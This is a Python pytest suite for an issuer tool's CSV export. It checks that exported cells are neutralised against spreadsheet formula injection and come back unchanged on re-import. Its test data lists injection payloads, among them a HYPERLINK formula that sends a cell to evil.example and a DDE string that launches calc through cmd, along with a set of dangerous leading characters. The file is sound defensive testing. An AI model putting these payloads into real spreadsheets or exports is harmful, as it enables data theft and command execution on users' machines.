"""What leaves as CSV: text to every spreadsheet, and the same again when it comes back."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from issuer.bulk import intake
from issuer.cli import main
from issuer.csv_rows import is_formula, protected, read_rows, unprotected, written
from issuer.subjects import Subject, read_subjects
from tests.kit.agency import AT, asked, found
from tests.kit.sealing import CHEAP_KDF, PASSPHRASE
from tests.kit.shell import Shell

if TYPE_CHECKING:
    from issuer.agency import Agency

AGE = "eu-age-proof"
SPOOFS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "''=1+1",
    "'quoted'",
    "\uff1d1+1",
    'plain, with "quotes"; and; marks',
)
"""References of people that a spreadsheet would calculate, that look protected, and that need quotes."""

DANGEROUS = set("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")
"""What a cell must not begin with (OWASP ASVS 5.0, 1.2.10), spelled out apart from the product's own list."""


def cells_of(content: bytes) -> list[list[str]]:
    """Read CSV as another program does."""
    return list(csv.reader(io.StringIO(content.decode(), newline=""), strict=True))


@pytest.fixture(scope="module")
def settled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("csv") / "a"
    with found(folder, types=[AGE]) as agency:
        for each in SPOOFS:
            wallet = asked(agency, copies=1)
            agency.issue(wallet.request, AGE, person(agency, each))
    return folder


def person(agency: Agency, reference: str) -> Subject:
    kind = agency.catalogue().find(AGE).type
    data = json.dumps({"subject": reference, "birth_date": "1990-04-17"}).encode()
    return read_subjects(data, "json", kind, on=AT.date())[0]


@pytest.fixture
def shell(settled: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Shell:
    shutil.copytree(settled, tmp_path / "a")
    monkeypatch.chdir(tmp_path)
    environment = {"COUNTERPROOF_PASSPHRASE": PASSPHRASE, "COUNTERPROOF_AT": AT.isoformat()}
    return Shell(main, brought=CHEAP_KDF, **environment)


@pytest.mark.scenario("issuer", "csv-export")
def test_an_exported_list_is_inert_and_comes_back_equal(shell: Shell) -> None:
    assert "10 batches are in out.csv" in shell.run("issuer list a --csv out.csv")
    content = Path("out.csv").read_bytes()
    head, *rows = cells_of(content)
    assert len(rows) == len(SPOOFS)
    for cell in (cell for row in (head, *rows) for cell in row):
        assert cell[:1] not in DANGEROUS, "a spreadsheet would calculate it"
    assert {row[2] for row in rows} != set(SPOOFS), "what is dangerous was changed"

    staged = intake.stage(Path("out.csv"), Path("staged"))
    assert staged.problems == ()
    back = [cells["subject"] for _, cells in intake.read_part(Path("staged"), 0)]
    assert back == list(SPOOFS), "equal after re-import"
    assert {each["subject"] for each in shell.json("issuer list a")} == set(SPOOFS)
    assert shell.refused("issuer list a --csv out.csv") == "agency.out-exists"


@pytest.mark.scenario("issuer", "csv-export")
def test_an_exported_list_is_taken_for_revoking(shell: Shell) -> None:
    """Every person is found again by the reference that stood in the export, whatever it began with."""
    shell.run("issuer list a --csv out.csv")
    revoke = "issuer bulk-revoke a out.csv --reason moved-away --yes"
    shell.run(revoke, code=1)
    assert "bulk.which-targets" in shell.complained
    assert f"{len(SPOOFS)} copies are revoked" in shell.run(f"{revoke} --by subject")
    assert {each["subject"] for each in shell.json("issuer list a --status revoked")} == set(SPOOFS)
    shell.run("issuer list a --csv after.csv --status revoked")
    assert {row[6] for row in cells_of(Path("after.csv").read_bytes())[1:]} == {"revoked"}


@pytest.mark.scenario("issuer", "csv-export")
def test_a_report_does_not_hand_a_formula_on(shell: Shell) -> None:
    """Names of columns come from whoever wrote the table, and stand in the report of a bad row."""
    spoof = '=HYPERLINK("https://evil.example")'
    Path("gone.csv").write_text('batch,"' + spoof.replace('"', '""') + '"\naaaaaaaaaaaaaaaa,=1+1\n')
    shell.run("issuer bulk-revoke a gone.csv --reason lost --yes --report bad.csv", code=1)
    rows = cells_of(Path("bad.csv").read_bytes())
    assert any(spoof in cell for row in rows for cell in row), "it is told"
    assert all(cell[:1] not in DANGEROUS for row in rows for cell in row), "and it is text"


@given(st.text(st.characters(codec="utf-8"), max_size=40))
def test_any_cell_comes_back_and_none_is_a_formula(cell: str) -> None:
    kept = protected(cell)
    assert not is_formula(kept)
    assert kept[:1] not in DANGEROUS
    assert unprotected(kept) == cell


@given(
    st.lists(
        st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=20), min_size=2, max_size=4
    )
)
def test_any_row_comes_back(cells: list[str]) -> None:
    content = written([["a,b", *"cdefg"[: len(cells) - 1]], cells])
    assert [unprotected(cell) for cell in cells_of(content)[1]] == cells
    ours = [row.cells for row in read_rows(content.decode())]
    assert ours[1] is not None
    assert [unprotected(cell) for cell in ours[1]] == cells
